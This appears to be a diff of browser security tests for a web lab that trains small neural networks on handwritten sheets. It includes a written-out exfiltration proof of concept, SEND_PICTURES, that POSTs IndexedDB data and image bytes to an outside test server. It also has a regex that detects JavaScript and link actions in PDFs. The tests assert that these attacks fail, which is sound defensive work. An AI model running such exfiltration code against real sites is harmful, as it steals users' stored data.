@@ -3,18 +3,49 @@
 from __future__ import annotations
 
 import ast
+import contextlib
+import io
 import json
+import re
+import zipfile
+from xml.etree import ElementTree
 
+import numpy as np
 import pytest
 
+import build
 from tests.py.project.exports.test_forms import TRAINING
+from tests.py.project.making import with_names
+from zeichenlabor.data.filled import fill_sheet
+from zeichenlabor.errors import BadSymbols
 from zeichenlabor.lab import presets
+from zeichenlabor.lab.paper import template_pdf, template_svgs
+from zeichenlabor.nn import Dense, Flatten, Sequential
 from zeichenlabor.project.exports import notebook as exported
+from zeichenlabor.project.exports import predictor
+from zeichenlabor.project.exports.web_page import page as page_to_take_home
+from zeichenlabor.project.file import write_project
+from zeichenlabor.sheets.plan import plan_sheets
 
 from .code_page import CodePage
 from .lab_page import READ_MS, LabPage
 from .test_private import elsewhere, shown  # noqa: F401 (a fixture)
-from .ways_out import ADDRESSES, ENDING, MESSAGES, SECRET, TEXTS, WAYS, attempt, texts
+from .ways_out import (
+    ADDRESSES,
+    ENDING,
+    MESSAGES,
+    PDF_CATALOG,
+    PDF_NOTES,
+    SECRET,
+    TEXTS,
+    WAYS,
+    attempt,
+    notebook,
+    pdf,
+    picture,
+    png,
+    texts,
+)
 
 STEPS = ["collect", "check", "train", "evaluate", "try", "learn", "code"]
 
@@ -47,7 +78,8 @@ def code(browser, site_url):
 
 def test_there_are_enough_ways():
     assert len(WAYS) >= 40
-    assert len(WAYS) + len(TEXTS) + len(ADDRESSES) + len(MESSAGES) >= 100
+    others = (TEXTS, PDF_CATALOG, PDF_NOTES, ADDRESSES, MESSAGES)
+    assert len(WAYS) + sum(map(len, others)) >= 100
 
 
 def test_no_way_leads_out_of_a_cell(code, site_url, elsewhere):  # noqa: F811
@@ -68,6 +100,58 @@ def test_no_way_leads_out_of_a_cell(code, site_url, elsewhere):  # noqa: F811
     assert lab.page.evaluate(OTHERS) == others
     again = code.run(code.add("print(6 * 7)"))  # and Python goes on
     assert code.text(again).strip() == "42"
+
+
+# The first proof of concept: a worker of the site that is not the page's has its projects and no
+# policy, runs a cell, and sends what it finds; and the short way, without such a worker.
+SEND_PICTURES = """\
+import asyncio, js
+from pyodide.ffi import to_js
+inner = '''
+import js
+asked = js.indexedDB.open(NAME)
+await js.fetch(URL, method='POST', body=asked)
+'''.replace('NAME', repr('zeichenlabor ' + {site!r})).replace('URL', repr({url!r}))
+message = dict(kind='request', id=1, method='code.run', params=dict(source=inner, cell='a'))
+pictures = to_js(project.images.tobytes())
+async def by_a_worker():
+    worker = js.Worker.new({site!r} + 'worker/worker.js', type='module')
+    worker.postMessage(to_js(message, dict_converter=js.Object.fromEntries))
+    await asyncio.sleep(20)
+async def by_hand():
+    await js.fetch({url!r}, method='POST', body=pictures, mode='no-cors')
+for way in by_a_worker, by_hand:
+    try:
+        await way()
+        print('went through')
+    except Exception as error:
+        print(type(error).__name__)
+print(len(pictures))
+"""
+
+
+def test_a_cell_cannot_send_the_pictures_of_a_sheet(code, site_url, sheet, elsewhere):  # noqa: F811
+    lab = code.lab
+    lab.step("collect")
+    file = io.BytesIO()
+    sheet.save(file, "PNG")
+    lab.drop({"name": "a.png", "mimeType": "image/png", "buffer": file.getvalue()})
+    lab.wait_for_cards(1)
+    lab.step("code")
+    cell = code.run(code.add(SEND_PICTURES.format(site=site_url, url=elsewhere.url)))
+    *ends, length = code.text(cell).split()
+    assert int(length) > 300_000  # it has them
+    assert ends == ["AttributeError", "JsException"]
+    assert elsewhere.asked == []
+    assert shown_requests(lab)[1] == 0
+
+
+def test_the_page_stays_ready_whatever_error_a_cell_reports(code):
+    report = "import js; js.reportError(js.Error.new('boot/python')); print(6 * 7)"
+    cell = code.run(code.add(report))
+    assert code.text(cell).strip() == "42"
+    code.lab.page.wait_for_timeout(300)
+    assert code.lab.hook("boot-status").first.get_attribute("data-state") == "ready"
 
 
 @pytest.mark.parametrize("way", ENDING)
@@ -136,6 +220,87 @@ def shown_requests(lab: LabPage) -> tuple[int, int]:
     return counts
 
 
+def hostile_project(url: str) -> bytes:
+    """Each text wherever one can stand, and documents in place of pictures."""
+    known = with_names(texts(url), texts(url)[0])
+    document = np.frombuffer(picture(url), np.uint8)
+    parts = known.parts
+    parts["step"] = "collect"
+    parts["template"]["pictures"] = dict.fromkeys(texts(url), document)
+    parts["sheets/sheet-1"] |= {"name": " ".join(texts(url)), "origin": " ".join(texts(url))}
+    parts["sheets/sheet-1"]["writer"] = texts(url)[0]
+    parts["sheets/sheet-1"]["result"]["page"]["preview"]["bytes"] = document
+    cells = [
+        {"id": f"cell-{n}", "source": text, "example": text} for n, text in enumerate(texts(url))
+    ]
+    blank = {"state": "new", "number": 0, "outputs": [], "error": None}
+    parts["notebook"] = {"cells": [cell | blank for cell in cells], "made": 99, "runs": 0}
+    parts["runs/run-1"]["name"] = " ".join(texts(url))[:200]
+    return write_project(known)
+
+
+def test_no_text_or_picture_of_a_file_does_anything(browser, site_url, elsewhere):  # noqa: F811
+    """In every step, with the dialogs that show names."""
+    lab = LabPage(browser, site_url).open().wait_until_ready()
+    content = hostile_project(elsewhere.url)
+    lab.drop({"name": f"{texts(elsewhere.url)[0]}.zip", "mimeType": "", "buffer": content})
+    lab.wait_for_cards(1)
+    kinds = {".png": "image/png", ".svg": "image/svg+xml", ".html": "text/html"}
+    for place, (ending, kind) in enumerate(kinds.items()):
+        name = texts(elsewhere.url)[place] + ending
+        lab.drop({"name": name, "mimeType": kind, "buffer": picture(elsewhere.url)})
+    shown_names = set()
+    for step in STEPS:
+        lab.step(step)
+        lab.settle()
+        page_text = lab.page.locator("#app").inner_text()
+        shown_names |= {text for text in texts(elsewhere.url) if text in page_text}
+        assert_nothing_ran(lab, elsewhere)
+    assert len(shown_names) > 5  # they are there, as text
+    lab.hook("open-cells").set_input_files(
+        {"name": "a.ipynb", "mimeType": "", "buffer": notebook("print(6 * 7)")}
+    )
+    lab.settle()
+    assert_nothing_ran(lab, elsewhere)
+    lab.close()
+
+
+@pytest.fixture(scope="module")
+def sheet():
+    return fill_sheet(plan_sheets(["a", "b"], sheet_id=5)[0], seed=7, dpi=130).convert("L")
+
+
+def test_no_pdf_and_no_picture_does_what_it_asks_for(browser, site_url, sheet, elsewhere):  # noqa: F811
+    lab = LabPage(browser, site_url).open().wait_until_ready()
+    files = {"a.pdf": pdf(elsewhere.url, sheet), "b.png": png(elsewhere.url)}
+    lab.drop(*({"name": name, "mimeType": "", "buffer": file} for name, file in files.items()))
+    lab.wait_for_cards(2)
+    assert lab.hook("sheet-card", state="done").count() == 1  # the PDF was drawn and read
+    assert_nothing_ran(lab, elsewhere)
+    lab.close()
+
+
+def assert_nothing_ran(lab: LabPage, elsewhere) -> None:  # noqa: F811
+    assert lab.page.evaluate("typeof hacked") == "undefined"
+    assert lab.page.locator("[onerror], [onload], [onfocus], iframe, #app script").count() == 0
+    assert lab.page.locator("a[href^=javascript]").count() == 0
+    assert elsewhere.asked == []
+    assert lab.strangers() == []
+    assert [problem for problem in lab.problems if "Content Security" in problem] == []
+
+
+def test_no_address_does_anything(browser, site_url, elsewhere):  # noqa: F811
+    lab = LabPage(browser, site_url).open()
+    for address in ADDRESSES.values():
+        lab.page.goto(site_url + address.replace("URL", elsewhere.url))
+        lab.hook("step-collect").wait_for()
+        lab.settle()
+        assert lab.page.locator("dialog[open], .broken").count() == 0
+        assert_nothing_ran(lab, elsewhere)
+    assert lab.problems == []
+    lab.close()
+
+
 def test_a_page_that_frames_or_opens_this_one_hears_nothing_and_changes_nothing(
     browser,
     site_url,
@@ -174,8 +339,64 @@ def test_a_page_that_frames_or_opens_this_one_hears_nothing_and_changes_nothing(
     lab.close()
 
 
+def texts_of_the_page_to_take_home(language: str) -> dict[str, str]:
+    source = (build.ROOT / f"site/i18n/{language}/share.js").read_text("utf-8")
+    found = re.findall(r"'share\.page\.([\w-]+)': ['\"](.*)['\"],\n", source)
+    return {"language": language} | dict(found)
+
+
+def test_the_page_to_take_home_runs_no_name(browser, elsewhere, tmp_path):  # noqa: F811
+    """In a file that is opened by double click: class names, and the name of whose it is."""
+    names = texts(elsewhere.url)
+    model = Sequential([Flatten(), Dense(len(names), "softmax")])
+    model.build((28, 28, 1))
+    told = {language: texts_of_the_page_to_take_home(language) for language in ("de", "en")}
+    html = page_to_take_home(model, names, told, "de", name=" ".join(names))
+    file = tmp_path / "mine.html"
+    file.write_text(html, encoding="utf-8")
+    lab = LabPage(browser, file.as_uri()).open()
+    assert "<script>" in lab.page.locator("#title").inner_text()  # it is there, as text
+    assert_nothing_ran(lab, elsewhere)
+    assert lab.page.locator("script").count() == 3
+    lab.close()
+
+
+PLAIN = {"x", "y", "width", "height", "viewBox", "fill", "font-family", "font-size", "text-anchor"}
+PLAIN |= {"href"}  # of pictures, see below
+NAMES = texts("http://a.example/")
+
+
+@pytest.mark.parametrize("name", NAMES, ids=list(TEXTS))
+def test_no_name_leaves_its_place_on_a_printed_sheet(name):
+    """In both forms it is text there, or it is refused."""
+    told = {"alias": name, "hint": name}
+    shown = [{"name": name, "png": png("http://a.example/")}]
+    template = {"symbols": [name, "b"], "columns": 20, "paper": "a4", "sheet_id": 1, "texts": told}
+    (svg,) = template_svgs(**template, pictures=shown)
+    elements = list(ElementTree.fromstring(svg).iter())
+    assert {element.tag.split("}")[1] for element in elements} <= {"svg", "rect", "text", "image"}
+    assert {key for element in elements for key in element.attrib} <= PLAIN
+    links = {element.get("href") or "data:" for element in elements}
+    assert all(link.startswith("data:") for link in links)
+    with contextlib.suppress(BadSymbols):
+        content = template_pdf(**template, pictures=shown).tobytes()
+        entries = re.sub(rb"stream\n.*?endstream", b"", content, flags=re.DOTALL)
+        assert not re.search(rb"/(JS|JavaScript|URI|A|AA|Names|Annots)\b", entries)
+
+
+def test_no_name_leaves_its_place_in_a_network_for_numpy():
+    """It stands in the archive as text, without a pickle; the program is the same for all."""
+    model = presets.build("one-layer", classes=len(NAMES))
+    with zipfile.ZipFile(io.BytesIO(predictor.zipped(model, NAMES, None, ""))) as archive:
+        assert archive.namelist() == ["network.npz", "predict.py", "README.txt"]
+        program, content = archive.read("predict.py"), archive.read("network.npz")
+    assert not [name for name in NAMES if len(name) > 1 and name.encode() in program]
+    with np.load(io.BytesIO(content), allow_pickle=False) as arrays:
+        assert json.loads(arrays["config"].tobytes())["classes"] == NAMES
+
+
 def test_no_name_leaves_its_place_in_a_notebook_that_is_taken_home():
-    names = texts("http://a.example/")
+    names = NAMES
     told = exported.cells(presets.build("one-layer"), names, TRAINING, {})
     nodes = [node for _, source in told for node in ast.walk(ast.parse(source))]
     assert set(names) <= {node.value for node in nodes if isinstance(node, ast.Constant)}
